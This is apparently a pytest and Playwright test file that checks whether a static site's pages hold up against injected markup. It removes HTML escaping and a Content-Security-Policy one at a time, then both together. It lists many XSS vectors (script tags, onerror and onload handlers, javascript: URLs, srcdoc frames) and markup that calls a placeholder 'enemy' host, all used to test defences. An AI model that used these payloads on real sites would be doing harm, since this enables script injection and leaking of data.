"""Two walls, each enough alone: text is never markup, and a page runs nothing written inside it.

Here one of them is taken down at a time, then both, which shows that the attacks are real.
"""

import re
import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from html import unescape
from pathlib import Path
from time import monotonic

import pytest
from playwright.sync_api import Browser, Error, Page

from browser import PATIENCE, Quiet, served
from building import Built

pytest_plugins = ["sites", "browsers"]

TARGET = "reunions/2030-05-08/"
"""The page that attacks are put into."""
POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>\n')
ARTICLE = re.compile(r"(<article[^>]*>)(.*)(</article>)", re.DOTALL)

PAUSE = 200
"""Milliseconds for what runs or asks late, where nothing may."""
ACT = """() => document.querySelectorAll(".attack").forEach((each) => each.click())"""
RAN = "window.__pwned !== undefined"
RUN = "top.__pwned=1"
RUNNING = {
    "script": f"<script>{RUN}</script>",
    "module": f"<script type=module>{RUN}</script>",
    "script of another host": '<script src="{enemy}script.js"></script>',
    "script as data": f'<script src="data:text/javascript,{RUN}"></script>',
    "image": f'<img src="{{enemy}}missing" onerror="{RUN}">',
    "svg": f'<svg onload="{RUN}"></svg>',
    "focus": f'<input autofocus onfocus="{RUN}">',
    "details": f'<details open ontoggle="{RUN}">Texte</details>',
    "animation": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "link": f'<a class="attack" href="javascript:{RUN}">Lien</a>',
    "form that runs": f'<form action="javascript:{RUN}"><button class="attack">Oui</button></form>',
    "button": f'<form><button class="attack" formaction="javascript:{RUN}">Oui</button></form>',
    "frame with text": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "frame that runs": f'<iframe src="javascript:{RUN}"></iframe>',
}
"""Markup that runs something, by what it is."""
LEAKING = {
    "image": '<img src="{enemy}image">',
    "style": "<style>h1 {{ background: url({enemy}style) }}</style>",
    "style of an element": '<p style="background: url({enemy}style)">Texte</p>',
    "style sheet": '<link rel="stylesheet" href="{enemy}sheet.css">',
    "frame": '<iframe src="{enemy}frame"></iframe>',
    "object": '<object data="{enemy}object" type="text/html"></object>',
    "embed": '<embed src="{enemy}embed" type="text/html">',
    "video": '<video src="{enemy}video" autoplay></video>',
    "preload": '<link rel="preload" as="image" href="{enemy}preload">',
    "base": '<base href="{enemy}"><img src="base">',
    "form": '<form action="{enemy}form"><button class="attack">Envoyer</button></form>',
}
"""Markup that has the browser ask something of another host, by what it is."""
ATTACKS = {f"runs: {name}": html for name, html in RUNNING.items()} | {
    f"leaks: {name}": html for name, html in LEAKING.items()
}


class Forgotten(Quiet):
    """A host of which browsers keep nothing."""

    def end_headers(self) -> None:
        """Say so."""
        self.send_header("Cache-Control", "no-store")
        super().end_headers()


@dataclass
class Enemy:
    """Another host, which notes what it is asked."""

    address: str
    asked: list[str] = field(default_factory=list)


@pytest.fixture
def enemy() -> Iterator[Enemy]:
    """Another host, which no page of an earlier test knows."""
    asked: list[str] = []

    class Noting(Quiet):
        def do_GET(self) -> None:  # noqa: N802 - called by this name
            """Note what is asked, and have it run where it may."""
            asked.append(self.path)
            known = self.path == "/script.js"
            self.send_response(200 if known else 404)
            self.send_header("Content-Type", "text/javascript")
            self.end_headers()
            self.wfile.write(RUN.encode() if known else b"")

    with served(Path(), handler=Noting) as address:
        yield Enemy(address.replace("127.0.0.1", "localhost"), asked)


@pytest.fixture(scope="module")
def folder(hostile_site: Built, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile site, to be changed."""
    assert hostile_site.status == 0, hostile_site.output
    return Path(shutil.copytree(hostile_site.folder, tmp_path_factory.mktemp("walls") / "site"))


@pytest.fixture(scope="module")
def address(folder: Path) -> Iterator[str]:
    """Where the hostile site is served."""
    with served(folder, handler=Forgotten) as found:
        yield found


@pytest.fixture(scope="module")
def page(browser: Browser) -> Iterator[Page]:
    """A tab without a worker, which could show an earlier page."""
    with browser.new_context() as context:
        yield context.new_page()


def test_without_the_policy_nothing_runs(
    folder: Path, address: str, page: Page, enemy: Enemy
) -> None:
    """The first wall alone: with the policy gone, no text of the archive becomes markup."""
    found = {}
    for path in pages(folder):
        url = path.relative_to(folder).as_posix()
        with changed(path, POLICY.sub("", path.read_text("utf-8"))):
            found[url] = outcome(page, f"{address}{url}", enemy)

    assert len(found) > 10
    assert {url for url, done in found.items() if done} == set()


def test_without_the_escaping_nothing_runs(
    folder: Path, address: str, page: Page, enemy: Enemy
) -> None:
    """The second wall alone: with every text turned into live markup, the policy stops it."""
    found = {}
    for path in pages(folder):
        url = path.relative_to(folder).as_posix()
        with changed(path, alive(path.read_text("utf-8"))):
            found[url] = outcome(page, f"{address}{url}", enemy)

    assert len(found) > 10
    assert {url for url, done in found.items() if done} == set()


def test_without_either_the_texts_run(folder: Path, address: str, page: Page, enemy: Enemy) -> None:
    """Both walls down, the texts of the hostile archive do run: the tests above can fail."""
    path = folder / TARGET / "index.html"

    with changed(path, POLICY.sub("", alive(path.read_text("utf-8")))):
        done = success(page, f"{address}{TARGET}", enemy)

    assert done == ["it ran"]


def test_policy_stops_every_attack(folder: Path, address: str, page: Page, enemy: Enemy) -> None:
    """Markup put into a page, of all kinds at once, runs nothing and asks no other host."""
    path = folder / TARGET / "index.html"

    with changed(path, injected(path, enemy, *ATTACKS)):
        done = outcome(page, f"{address}{TARGET}", enemy)

    assert done == []


@pytest.mark.parametrize("name", ATTACKS)
def test_attack_is_real(name: str, folder: Path, address: str, page: Page, enemy: Enemy) -> None:
    """The same markup in the same page without the policy does run, or does leave the host."""
    path = folder / TARGET / "index.html"

    with changed(path, POLICY.sub("", injected(path, enemy, name))):
        done = success(page, f"{address}{TARGET}", enemy)

    assert done != []


def pages(folder: Path) -> list[Path]:
    """The pages of a site that stay when they are opened."""
    found = sorted(folder.rglob("index.html"))
    return [path for path in found if 'http-equiv="refresh"' not in path.read_text("utf-8")]


def injected(path: Path, enemy: Enemy, *names: str) -> str:
    """The page with attacks at the end of its article."""
    attacks = "".join(ATTACKS[name].format(enemy=enemy.address) for name in names)
    return path.read_text("utf-8").replace("</article>", f"{attacks}</article>")


def alive(html: str) -> str:
    """The page with the escaping of its article undone."""
    return ARTICLE.sub(lambda found: found[1] + unescape(found[2]) + found[3], html)


@contextmanager
def changed(path: Path, html: str) -> Iterator[None]:
    """The file with another text, for a while."""
    before = path.read_bytes()
    path.write_text(html, encoding="utf-8")
    try:
        yield
    finally:
        path.write_bytes(before)


def outcome(page: Page, url: str, enemy: Enemy) -> list[str]:
    """What an opened page did that no page may: run something, lead away, ask another host."""
    page.goto(url)
    return [*seen(page, ACT), *enemy.asked]


def success(page: Page, url: str, enemy: Enemy) -> list[str]:
    """The same of a page that must do something, however long a busy machine takes."""
    done = outcome(page, url, enemy)
    end = monotonic() + PATIENCE / 1000
    while not done and monotonic() < end:
        done = [*seen(page, RAN), *enemy.asked]
    return done


def seen(page: Page, act: str) -> list[str]:
    """What a page does, to be seen in itself, a moment after an act."""
    try:
        page.evaluate(act)
        page.wait_for_timeout(PAUSE)
        return ["it ran"] if page.evaluate(RAN) else []
    except Error:  # the page is no more the one that was asked
        return ["it led away"]
